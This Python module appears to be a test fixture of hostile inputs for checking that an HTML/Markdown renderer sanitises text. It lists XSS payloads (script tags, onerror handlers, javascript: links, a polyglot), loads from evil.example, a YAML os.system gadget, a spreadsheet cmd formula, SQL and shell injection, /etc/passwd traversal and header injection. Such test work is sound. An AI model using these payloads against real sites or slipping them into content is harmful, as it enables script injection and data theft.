"""What hostile data may try, by family. Each sets ``window.hit`` or asks another host where it is not held as text.

``MARKUP`` acts where a text becomes HTML, ``MARKDOWN`` where it becomes Markdown, ``CONTEXTS`` where it ends the place
that it stands in, ``PROGRAMS`` where a program reads it as its own language, ``LETTERS`` where a reader is deceived.
"""

MARKUP = {
    "script": "<script>window.hit=1</script>",
    "script with space": "<script\t>window.hit=1</script >",
    "script elsewhere": "<script src=//evil.example/x.js></script>",
    "script as module": "<script type=module>window.hit=1</script>",
    "map of imports": '<script type=importmap>{"imports":{"x":"//evil.example/"}}</script>',
    "script cut by another": "<scr<script>ipt>window.hit=1</scr</script>ipt>",
    "image with handler": "<img src=x onerror=window.hit=1>",
    "image with slashes": "<img/src='x'/onerror=window.hit=1>",
    "image without end": "<img src=x onerror=window.hit=1 ",
    "image elsewhere": "<img src=https://evil.example/x.png>",
    "drawing with handler": "<svg/onload=window.hit=1>",
    "drawing with script": "<svg><script>window.hit=1</script></svg>",
    "drawing that moves": "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s></svg>",
    "drawing that links": '<svg><a xlink:href="javascript:window.hit=1"><text y=20>x</text></a></svg>',
    "drawing used": "<svg><use href=//evil.example/x.svg#x></use></svg>",
    "foreign object": "<svg><foreignObject><iframe srcdoc=x></iframe></foreignObject></svg>",
    "formula": "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1></style></table></math>",
    "details": "<details open ontoggle=window.hit=1>x</details>",
    "focus": "<input autofocus onfocus=window.hit=1>",
    "pointer": "<b onpointerenter=window.hit=1 onmouseover=window.hit=1>x</b>",
    "body": "<body onload=window.hit=1 onpageshow=window.hit=1>",
    "video": "<video><source onerror=window.hit=1></video>",
    "sound": "<audio src=x onerror=window.hit=1>",
    "marquee": "<marquee onstart=window.hit=1>x</marquee>",
    "link that runs": '<a href="javascript:window.hit=1">x</a>',
    "link in disguise": '<a href="&#106;ava&Tab;script&colon;window.hit=1">x</a>',
    "link to data": '<a href="data:text/html,<script>opener.hit=1</script>">x</a>',
    "base": "<base href=https://evil.example/>",
    "style": "<style>body{display:none}</style>",
    "style elsewhere": "<link rel=stylesheet href=https://evil.example/x.css>",
    "style attribute": '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">x</p>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "policy": "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">",
    "frame": "<iframe src=https://evil.example/></iframe>",
    "frame of its own": "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "form": "<form action=https://evil.example/><button autofocus>x</button></form>",
    "button of a form": "<button form=x formaction=javascript:window.hit=1>x</button>",
    "object": "<object data=javascript:window.hit=1></object>",
    "embedded": "<embed src=https://evil.example/x.swf>",
    "template": "<template shadowrootmode=open><script>window.hit=1</script></template>",
    "comment": "<!--><script>window.hit=1</script>-->",
    "text area": "<textarea></textarea><img src=x onerror=window.hit=1>",
    "without scripts": "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "everything at once": "jaVasCript:/*-/*`/*'/*\"/**/(/* */oNcliCk=window.hit=1 )//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.hit=1//>",
}
MARKDOWN = {
    "link": "[x](javascript:window.hit=1)",
    "link with entities": "[x](java&#09;script&#58;window.hit=1)",
    "reference": "[x][y] [y]: javascript:window.hit=1",
    "remote image": "![x](https://evil.example/x.png)",
    "address in angles": "<javascript:window.hit=1> <https://evil.example/>",
    "bare address": "https://evil.example/x www.evil.example",
    "attribute list": '**x**{: onmouseover="window.hit=1" style="color:red" }',
    "attributes of a heading": "# x {#top .md-main onclick=window.hit=1}",
    "code": "``` mermaid `x` ~~~ html",
    "emphasis": "**粗** _斜_ ~~删~~ ==标== ^^插^^ H~2~O",
    "table": "| x | y | --- | :-: |",
    "front matter": "--- title: x --- template: evil.html",
    "lists": '- 甲 1. 乙 > 丙 !!! danger ??? note === "x"',
    "contents": "[TOC] [[x]] [^1] *[HTML]: x",
    "snippet": '--8<-- "mkdocs.yml" ;--8<-- "gongkai.toml"',
    "critic": "{++<img src=x onerror=window.hit=1>++}{--x--}{>>x<<}",
    "emoji": ":smile: :material-account:",
    "markdown in html": '<div markdown="1">**x**</div>',
    "backslashes": "\\[x\\]\\(y\\) \\<b\\> \\\\",
}
CONTEXTS = {
    "end of script": "</script><script>window.hit=1</script><!-- </title></textarea></style></noscript></template>",
    "end of attribute": "\" onfocus=window.hit=1 autofocus x='",
    "end of attribute without quotes": " onmouseover=window.hit=1 ` x=",
    "end of everything": '</a></td></tr></table></div></article></main><img src=x onerror=window.hit=1><div class="',
    "end of comment": "--><img src=x onerror=window.hit=1><!--",
    "end of data": '"}]}</script><script>window.hit=1</script>{"a":["\\u003c',
    "end of character data": "]]><script>window.hit=1</script><![CDATA[ <?php x ?>",
    "entities": "&lt;img src=x onerror=window.hit=1&gt; &#60;b&#62; &amp;amp; &NewLine; &colon;",
}
PROGRAMS = {
    "templates": "{{ 7 * 7 }} {% include 'home.md' %} {# x #} <# x #> ${7*7} #{7*7} <%= 7*7 %>",
    "format": "{n} {0} {title} {x!r} {} }{ {{n}}",
    "percent": "100%s %d %(n)s %% %n 50%",
    "settings": "!!python/object/apply:os.system ['x'] !ENV x &a *a <<: x",
    "regular expression": "(a+)+$ [^]] (?P<n>x) \\1 $& $1 .*",
    "table formula": "x =cmd|' /C calc'!A0 =HYPERLINK(\"https://evil.example/\")",
    "chart": '<a href="https://evil.example/">x</a><br><b>y</b><extra></extra>%{x}',
    "query": "'; DROP TABLE units; -- \" OR 1=1",
    "shell": "$(touch x) `touch x` ; touch x | touch x & touch x",
    "paths": "../../../etc/passwd C:\\x file:///etc/passwd",
    "bibliography": "@misc{x, title={\\input{/etc/passwd}} } \\n",
    "calendar": "x\\nEND:VEVENT\\nBEGIN:VALARM;x=y:z",
    "header": "x%0d%0aSet-Cookie:%20x=1",
    "names of objects": "__proto__ constructor toString hasOwnProperty",
}
LETTERS = {
    "far planes": "𠮷野家 🏛️ 𝕏",
    "full width": "＜script＞window.hit=1＜/script＞ ｊavascript：x",
    "marks": "ｅ́ ä̈ ﷽ ㎡ ① Ⅳ",
    "brackets": "[" * 300 + "]" * 300,
    "angles": "<" * 300,
    "long": "长" * 900,
}
PAYLOADS = {
    f"{family}: {name}": text
    for family, texts in {
        "markup": MARKUP,
        "markdown": MARKDOWN,
        "context": CONTEXTS,
        "program": PROGRAMS,
        "letters": LETTERS,
    }.items()
    for name, text in texts.items()
}
